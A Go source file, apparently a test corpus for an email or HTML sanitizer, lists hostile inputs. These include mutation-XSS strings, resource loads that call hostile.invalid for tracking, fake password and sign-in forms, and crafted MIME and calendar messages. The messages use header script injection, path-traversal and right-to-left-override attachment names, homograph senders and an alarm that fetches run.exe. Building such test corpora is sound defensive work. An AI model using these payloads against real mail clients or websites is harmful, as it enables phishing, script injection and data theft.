package hostile

import (
	"encoding/base64"
	"strings"
)

func loads() []string {
	return []string{
		`<img src="URL.png"><img src=//hostile.invalid/load.png><img src="https:\\hostile.invalid\load.png">`,
		`<img srcset="URL.png 1x, URL.png 2x" src=""><img src=x srcset="URL.png">`,
		`<picture><source srcset="URL.webp"><img src="URL.png"></picture>`,
		`<img src="URL.png" loading=eager crossorigin=use-credentials referrerpolicy=unsafe-url decoding=sync fetchpriority=high>`,
		`<image src="URL.png"><input type=image src="URL.png"><button style="background:url(URL.png)">x</button>`,
		`<video src="URL.mp4" poster="URL.png" autoplay></video><audio src="URL.mp3" autoplay preload=auto></audio>`,
		`<video><source src="URL.mp4"><track src="URL.vtt" default></video>`,
		`<link rel=stylesheet href="URL.css"><link rel="alternate stylesheet" href="URL.css">`,
		`<link rel=preload as=image href="URL.png"><link rel=prefetch href="URL"><link rel=prerender href="URL">`,
		`<link rel=dns-prefetch href="//hostile.invalid"><link rel=preconnect href="https://hostile.invalid"><link rel=modulepreload href="URL.js">`,
		`<link rel=icon href="URL.ico"><link rel=manifest href="URL.json"><link rel="apple-touch-icon" href="URL.png">`,
		`<html manifest="URL.appcache"><head profile="URL"><body background="URL.png">`,
		`<table background="URL.png"><tr background="URL.png"><td background="URL.png">x<th background="URL.png"></table>`,
		`<bgsound src="URL.wav"><embed src="URL.swf"><object data="URL.swf" classid="URL" codebase="URL" archive="URL"></object>`,
		`<applet code=x codebase="URL"></applet><param name=movie value="URL.swf">`,
		`<img dynsrc="URL.avi" lowsrc="URL.png" longdesc="URL" usemap="URL#m">`,
		`<script type=speculationrules>{"prefetch":[{"urls":["URL"]}]}</script>`,
		`<portal src="URL"></portal><fencedframe src="URL"></fencedframe><webview src="URL"></webview>`,
		`<v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill src="URL.png"/><v:imagedata src="URL.png"/></v:rect>`,
		`<!--[if gte mso 9]><v:background fill="t"><v:fill src="URL.png"/></v:background><img src="URL.png"><![endif]-->`,
		`<![if !mso]><img src="URL.png"><![endif]>`,
		`<img src="cid:../../etc/passwd"><img src="cid:"><img src="cid:x" onerror="alert(1)">`,
		`<img src="data:text/html,<script>alert(1)</script>"><img src="data:,x"><img src="data:image/png;base64,AAAA" onerror=alert(1)>`,
		`<img src="about:blank"><img src="mhtml:URL!x"><img src="ftp://hostile.invalid/x.png"><img src="\\hostile.invalid\share\x.png">`,
		`<img src=" &#x68;ttp://hostile.invalid/x.png"><img src="&#9;http://hostile.invalid/x.png"><img src="h&#10;ttp://hostile.invalid/x.png">`,
		`<div itemscope itemtype="URL"><link itemprop=image href="URL.png"><meta itemprop=x content="URL"></div>`,
	}
}

// mutations are parsed one way by one parser and another by the next, or after being written again.
func mutations() []string {
	return []string{
		`<noscript><style></noscript><img src=x onerror=alert(1)></style>`,
		`<p id="</p><img src=x onerror=alert(1)>">x</p>`,
		"<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
		"<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
		`<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
		`<title><p title="</title><img src=x onerror=alert(1)>"></title>`,
		`<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>`,
		`<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed><noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>`,
		`<plaintext><script>alert(1)</script><img src=x onerror=alert(1)>`,
		`<select><option><style></option></select><img src=x onerror=alert(1)></style>`,
		`<select><template><img src=x onerror=alert(1)></template></select><select><svg><style><img src=x onerror=alert(1)></style></svg></select>`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
		`<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">`,
		`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
		`<svg><desc><noscript><style></noscript></style><img src=x onerror=alert(1)></desc></svg>`,
		`<table><td><svg><desc><td></desc></svg><title><img src=x onerror=alert(1)></title>`,
		`<a><table><a href="javascript:alert(1)">x</a></table></a><b><p><table><b>y</b></table>`,
		`<table><caption><table><tr><td><form><form onsubmit=alert(1)><script>alert(1)</script></table>`,
		`<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>`,
		`<image/src/onerror=alert(1)><isindex action=javascript:alert(1) type=submit>`,
		"<img alt=\"`><img src=x onerror=alert(1)>\" src=x>",
		`<p title="--><script>alert(1)</script>"><!-- x --!><script>alert(1)</script> --></p><!--><script>alert(1)</script>-->`,
		`<!doctype html [<!ENTITY x "<script>alert(1)</script>">]>&x;`,
		`<a/href="URL"/onclick=alert(1)//x</a><a href='x'title='">'onclick='alert(1)'>y</a>`,
		`<div attr="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">&lt;script&gt;alert(1)&lt;/script&gt;</div>`,
		strings.Repeat("<div>", 600) + `<svg><style><img src=x onerror=alert(1)></style></svg>` + strings.Repeat("</div>", 600),
		strings.Repeat("<b><table><td>", 120) + `<script>alert(1)</script><img src=x onerror=alert(1)>`,
		strings.Repeat("<a href=x>", 300) + `<a href="javascript:alert(1)">deep</a>`,
		`<ruby><rtc><rp><math><ms><svg><foreignObject><p><img src=x onerror=alert(1)></ruby>`,
		`<p><svg><![CDATA[<style><img src="]]></style></svg><img src=x onerror=alert(1)>">`,
	}
}

func frames() []string {
	return []string{
		`<iframe src="javascript:alert(1)"></iframe>`,
		`<iframe src="URL"></iframe><frame src="URL">`,
		`<iframe srcdoc="<script>alert(1)</script><img src=URL.png>"></iframe>`,
		`<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="&lt;script&gt;top.alert(1)&lt;/script&gt;"></iframe>`,
		`<iframe src="data:text/html,<script>alert(1)</script>"></iframe><object data="data:text/html,<script>alert(1)</script>"></object>`,
		`<iframe src="/m/me/inbox" name=inbox></iframe><iframe src="/signout"></iframe>`,
		`<embed src="javascript:alert(1)"><object data="javascript:alert(1)"></object><embed code="URL.swf" allowscriptaccess=always>`,
		`<object classid="clsid:00000000-0000-0000-0000-000000000000" data="URL"><param name=src value="javascript:alert(1)"></object>`,
		`<iframe allow="camera; microphone" allowfullscreen csp="script-src *" src="URL"></iframe>`,
	}
}

func forms() []string {
	return []string{
		`<form action="javascript:alert(1)"><input type=submit autofocus></form>`,
		`<form action="URL" method=post><input name=password type=password><button>Sign in</button></form>`,
		`<form id=f></form><button form=f formaction="javascript:alert(1)">x</button><input type=image form=f formaction="URL" src=x>`,
		`<form action="/m/me/act" method=post><input type=hidden name=trash value=all><input type=submit value="Read mail"></form>`,
		`<isindex action="URL" prompt="Your password"><keygen name=x>`,
		`<input type=text name=cookie><form name=location><input name=body></form><img name=cookie><a id=document href=x></a>`,
		`<label for=x onclick=alert(1)>x</label><output onforminput=alert(1)></output><meter><progress><datalist id=x><option onclick=alert(1)></datalist>`,
		`<dialog open>Your session has ended. <a href="URL">Sign in</a></dialog><menu type=context><menuitem onclick=alert(1) label=x icon="URL.png"></menu>`,
		`<button onclick=alert(1) accesskey=x>x</button><a accesskey=r href="URL">y</a>`,
	}
}

// messages carry their load outside of an HTML body.
func messages() []string {
	const x = `<script>alert(1)</script><img src=x onerror=alert(1)>`
	b64 := base64.StdEncoding.EncodeToString([]byte(x))
	plain := "\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n"
	mixed := "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
	file := func(header string) string {
		return "From: m@hostile.invalid\nSubject: file\n" + mixed + "--b\nContent-Type: text/plain\n\nSee the file.\n--b\n" + header + "\n\nx\n--b--\n"
	}
	nested := "From: m@hostile.invalid\nSubject: nested\n" + mixed + "--b\nContent-Type: message/rfc822\n\nFrom: " + `"` + x + `" <m@hostile.invalid>` +
		"\nSubject: " + x + "\nContent-Type: text/html\n\n" + x + "\n--b--\n"
	calendar := func(property string) string {
		return "From: m@hostile.invalid\nSubject: invitation\n" + mixed + "--b\nContent-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:1\n" +
			"DTSTART:20261124T100000Z\nSUMMARY:Meeting\n" + property + "\nEND:VEVENT\nEND:VCALENDAR\n--b--\n"
	}
	return []string{
		"From: m@hostile.invalid\nSubject: " + x + plain + x,
		"From: m@hostile.invalid\nSubject: =?utf-8?B?" + b64 + "?=" + plain + "x",
		"From: m@hostile.invalid\nSubject: =?utf-7?Q?+ADw-script+AD4-alert(1)+ADw-/script+AD4-?=" + plain + "x",
		`From: "` + x + `" <m@hostile.invalid>` + "\nSubject: name" + plain + "x",
		"From: =?utf-8?B?" + b64 + "?= <m@hostile.invalid>\nSubject: encoded name" + plain + "x",
		`From: "ceo@bank.example" <m@hostile.invalid>` + "\nSubject: other address" + plain + "x",
		"From: \u202etest.knab@oec\u202c <m@hostile.invalid>\nSubject: \u202egpj.exe\u202c" + plain + "\u202eturned\u202c",
		"From: ceo@b\u0430nk.example\nSubject: mixed script" + plain + "x",
		"From: <\"><img src=x onerror=alert(1)>\"@hostile.invalid>\nTo: <script>alert(1)</script>@x.test\nSubject: address" + plain + "x",
		"From: m@hostile.invalid, n@hostile.invalid\nReply-To: javascript:alert(1)\nSubject: many" + plain + "x",
		"From: m@hostile.invalid\nMessage-ID: <\"><script>alert(1)</script>@x>\nReferences: <'><img src=x onerror=alert(1)>\nSubject: ids" + plain + "x",
		"From: m@hostile.invalid\nDate: <script>alert(1)</script>\nSubject: date" + plain + "x",
		"From: m@hostile.invalid\nList-Unsubscribe: <javascript:alert(1)>, <data:text/html,x>, <http://hostile.invalid/\"onclick=alert(1)>\nSubject: list" + plain + "x",
		"From: m@hostile.invalid\nContent-Language: en\"><script>alert(1)</script>\nSubject: language" + plain + "x",
		"From: m@hostile.invalid\nSubject: links" + plain + "javascript:alert(1) http://hostile.invalid/\"onclick=alert(1)// <http://hostile.invalid/'><script>alert(1)</script> mailto:a@b.test?body=<script>alert(1)</script>\n> " + x,
		"From: m@hostile.invalid\nSubject: userinfo" + plain + "https://www.bank.example@hostile.invalid/ https://www.bank.example:443@hostile.invalid/",
		"From: m@hostile.invalid\nSubject: x\r\n\r\n" + x + plain + x,
		file(`Content-Type: text/html; name="` + "<img src=x onerror=alert(1)>.html" + `"` + "\nContent-Disposition: attachment"),
		file("Content-Type: application/pdf\nContent-Disposition: attachment; filename=\"../../../etc/cron.d/x\""),
		file("Content-Type: application/pdf\nContent-Disposition: attachment; filename=\"invoice\u202efdp.exe\""),
		file("Content-Type: application/octet-stream\nContent-Disposition: attachment; filename*=utf-8''%3Cscript%3Ealert(1)%3C%2Fscript%3E%0d%0aX-Y:%20z"),
		file("Content-Type: application/octet-stream\nContent-Disposition: attachment; filename=\"a\\\"; filename=b.exe\""),
		file("Content-Type: text/html\nContent-Disposition: inline; filename=\"x.html\"\n\n" + x),
		file("Content-Type: image/svg+xml\nContent-Disposition: inline; filename=x.svg\n\n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
		file("Content-Type: image/png\nContent-Disposition: inline; filename=x.png\n\n<html>" + x),
		file("Content-Type: text/html\nContent-Description: " + x + "\nContent-ID: <\"><script>alert(1)</script>>"),
		file("Content-Type: message/external-body; access-type=URL; URL=\"http://hostile.invalid/external\"\n\nContent-Type: text/html"),
		file("Content-Type: text/x-\"><script>alert(1)</script>; charset=\"><script>\""),
		file("Content-Type: application/javascript\nContent-Disposition: inline; filename=con.js\n\nalert(1)"),
		"From: m@hostile.invalid\nSubject: cid svg\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n<img src=\"cid:a\"><img src=\"cid:b\"><object data=\"cid:a\"></object><iframe src=\"cid:b\"></iframe>" +
			"\n--b\nContent-Type: image/svg+xml\nContent-ID: <a>\n\n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><image href='http://hostile.invalid/cid.png'/></svg>" +
			"\n--b\nContent-Type: image/png\nContent-ID: <b>\n\n" + x + "\n--b--\n",
		nested,
		strings.Replace(nested, "Content-Type: message/rfc822\n\n", "Content-Type: message/rfc822\nContent-Transfer-Encoding: base64\n\n"+
			base64.StdEncoding.EncodeToString([]byte("Subject: encoded\nContent-Type: text/html\n\n"+x))+"\n\n", 1),
		"From: m@hostile.invalid\nSubject: alternative\nMIME-Version: 1.0\nContent-Type: multipart/alternative; boundary=\"<script>alert(1)</script>\"\n\n--<script>alert(1)</script>\nContent-Type: text/x-amp-html\n\n" + x +
			"\n--<script>alert(1)</script>\nContent-Type: text/html\n\n" + x + "\n--<script>alert(1)</script>--\n",
		"From: m@hostile.invalid\nSubject: unclosed\n" + mixed + "--b\nContent-Type: text/html\n\n<div title=\"\n--b\nContent-Type: text/html\n\n\" onclick=alert(1)>" + x + "</div>\n",
		"From: m@hostile.invalid\nSubject: enriched\nMIME-Version: 1.0\nContent-Type: text/enriched\n\n<bold>x</bold><param>" + x + "</param>",
		"From: m@hostile.invalid\nSubject: xhtml\nMIME-Version: 1.0\nContent-Type: application/xhtml+xml\n\n<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
		"Content-Type: multipart/x-mixed-replace; boundary=b\n\n--b\nContent-Type: text/html\n\n" + x + "\n--b--\n",
		"Content-Type: text/plain\n\nbegin 644 <img src=x onerror=alert(1)>.html\n#0V%T\n`\nend\n" + x,
		calendar("LOCATION:" + x),
		calendar("DESCRIPTION:" + x + "\\n<a href=\"javascript:alert(1)\">x</a>"),
		calendar("SUMMARY:" + x + "\nORGANIZER;CN=\"" + strings.ReplaceAll(x, `"`, "") + "\":mailto:m@hostile.invalid"),
		calendar("ATTENDEE;CN=\u202emoc.knab;PARTSTAT=<script>alert(1)</script>:javascript:alert(1)"),
		calendar("URL:javascript:alert(1)\nATTACH:http://hostile.invalid/attach.ics\nX-ALT-DESC;FMTTYPE=text/html:" + x),
		calendar("DTSTART;TZID=\"<script>alert(1)</script>\":20261124T100000\nUID:\"><script>alert(1)</script>\nRRULE:FREQ=<script>alert(1)</script>"),
		calendar("BEGIN:VALARM\nACTION:PROCEDURE\nATTACH:http://hostile.invalid/run.exe\nTRIGGER:-PT0M\nEND:VALARM\nIMAGE;VALUE=URI:http://hostile.invalid/i.png\nCONFERENCE;VALUE=URI:javascript:alert(1)"),
		"Content-Type: text/calendar; method=\"><script>alert(1)</script>\"\n\nBEGIN:VEVENT\nSUMMARY:" + x,
		x,
		"",
		"\x00\x01\x02" + x,
	}
}
